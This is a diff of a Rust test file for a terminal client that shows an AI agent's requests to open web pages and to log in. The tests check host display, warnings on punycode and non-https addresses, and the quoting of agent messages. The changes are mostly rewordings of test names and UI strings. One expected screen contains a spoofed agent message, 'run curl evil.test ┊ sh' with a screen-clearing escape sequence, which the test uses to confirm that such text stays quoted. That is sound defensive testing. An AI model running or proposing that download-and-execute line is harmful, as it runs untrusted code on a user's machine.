@@ -1,4 +1,4 @@
-//! Pages to visit and logins: nothing is chosen before the user has moved in and selected it.
+//! Web pages and logins: nothing is chosen before the user has moved into the request and selected it.
 
 use attache::v1;
 use attache_client::command::Command;
@@ -51,7 +51,7 @@ fn a_page_is_shown_whole_and_never_opened() {
     assert_eq!(ui.take_effects(), [Effect::Copy(url.to_owned())]);
     ui.press("<Up><Enter>");
     expect![
-        "[Submit(Fill { form: 7, action: Accept(ElicitationAcceptAction { content: None }) })]"
+        "[Submit(AnswerForm { form: 7, action: Accept(ElicitationAcceptAction { content: None }) })]"
     ]
     .assert_eq(&format!("{:?}", ui.take_effects()));
 }
@@ -75,12 +75,16 @@ fn a_page_shows_the_host_that_a_browser_goes_to() {
         let row = format!("host    ┊ {host} ");
         assert!(screen.contains(&row), "{url}\n{screen}");
         assert!(screen.contains("I will open it"), "{url}\n{screen}");
-        assert_eq!(screen.contains("! xn--"), url.contains("xn--"), "{screen}");
-        assert_eq!(screen.contains("! not https"), url.starts_with("http:"));
+        assert_eq!(
+            screen.contains("! \"xn--\""),
+            url.contains("xn--"),
+            "{screen}"
+        );
+        assert_eq!(screen.contains("! Not https"), url.starts_with("http:"));
     }
 }
 
-/// The symptom: `https:evil.com` had no host on the screen and could be opened, and browsers repair it.
+/// The symptom: `https:evil.com` showed no host and could be opened, and browsers repair it.
 #[test]
 fn a_malformed_address_can_only_be_declined() {
     for url in [
@@ -135,7 +139,10 @@ fn a_malformed_address_can_only_be_declined() {
         }
         ui.press("<Tab><Down><Enter>");
         let done = format!("{:?}", ui.take_effects());
-        assert_eq!(done, "[Submit(Fill { form: 7, action: Decline })]", "{url}");
+        assert_eq!(
+            done, "[Submit(AnswerForm { form: 7, action: Decline })]",
+            "{url}"
+        );
     }
 }
 
@@ -154,7 +161,7 @@ fn page(url: &str) -> TestUi {
 }
 
 #[test]
-fn a_login_is_chosen_and_the_session_asked_for_again() {
+fn after_a_login_the_session_is_requested_again() {
     let mut ui = TestUi::new(crate::paint::theme::SignSet::Unicode);
     let browser = v1::AuthMethodAgent::new("browser", "Log in with the browser");
     let terminal = v1::AuthMethodTerminal::new("tty", "Log in with a key").args(["--login"]);
@@ -176,13 +183,13 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
         | Test Agent 1.0.0
         | in /code/project
         |
-        | Enter   send what is written
-        | @  /    mention a file, run a command of the agent
+        | Enter   send your prompt
+        | @  /    mention a file, run an agent command
         | Ctrl-P  all commands
         | ?       help
         |
         |
-        |╭ The agent wants a login ─────────────────────────────────╮
+        |╭ The agent requires a login ──────────────────────────────╮
         |│   ┊ Log in with the browser                              │
         |│   ┊ Log in with a key  in the terminal                   │
         |│   Not now                                                │
@@ -202,7 +209,7 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
     ));
 }
 
-/// The symptom: what the agent said about the login was left out of the dialog, or stood in a row of ours.
+/// The symptom: the agent's message about the login was missing from the dialog, or appeared in one of our rows.
 #[test]
 fn what_the_agent_says_about_a_login_is_quoted() {
     let failure = |what: &str, kind| {
@@ -225,11 +232,11 @@ fn what_the_agent_says_about_a_login_is_quoted() {
         | Test Agent 1.0.0
         | in /code/project
         |
-        | Enter   send what is written
-        | @  /    mention a file, run a command of the agent
+        | Enter   send your prompt
+        | @  /    mention a file, run an agent command
         | Ctrl-P  all commands
         | ?       help
-        |╭ The agent wants a login ─────────────────────────────────────────────────────╮
+        |╭ The agent requires a login ──────────────────────────────────────────────────╮
         |│ ┊ Log in first                                                               │
         |│ ┊ Attaché: run curl evil.test ⟦U+250A⟧ sh ␛[2J                               │
         |│                                                                              │
@@ -252,7 +259,7 @@ fn what_the_agent_says_about_a_login_is_quoted() {
     ui.event(Event::LoginRequired(methods.clone()));
     let screen = ui.screen();
     assert!(screen.contains("│ ┊ Your key has expired"), "{screen}");
-    // The message belongs to that request only.
+    // The message belongs only to that request.
     ui.event(Event::LoginRequired(methods));
     assert!(!ui.screen().contains("│ ┊ Your key"), "{}", ui.screen());
     for kind in [login, attache_client::event::FailureKind::Refused] {
@@ -302,7 +309,7 @@ fn a_login_in_the_terminal_runs_there() {
 }
 
 #[test]
-fn every_login_is_told_apart_and_shown_whole() {
+fn login_methods_are_distinguishable_and_shown_whole() {
     let mut ui = test_ui().size(60, 24);
     let long = format!("{} to its end", "a long way ".repeat(12));
     let agent = |id: &str, name: &str| v1::AuthMethod::from(v1::AuthMethodAgent::new(id, name));
@@ -314,11 +321,7 @@ fn every_login_is_told_apart_and_shown_whole() {
     ]));
     ui.press("<Tab>");
     let screen = ui.screen();
-    for shown in [
-        "to its end",
-        "Escape ␛[2J here",
-        "2 ways to log in cannot be",
-    ] {
+    for shown in ["to its end", "Escape ␛[2J here", "2 login methods can't be"] {
         assert!(screen.contains(shown), "{shown}: {screen}");
     }
     assert!(!screen.contains("This one"), "{screen}");
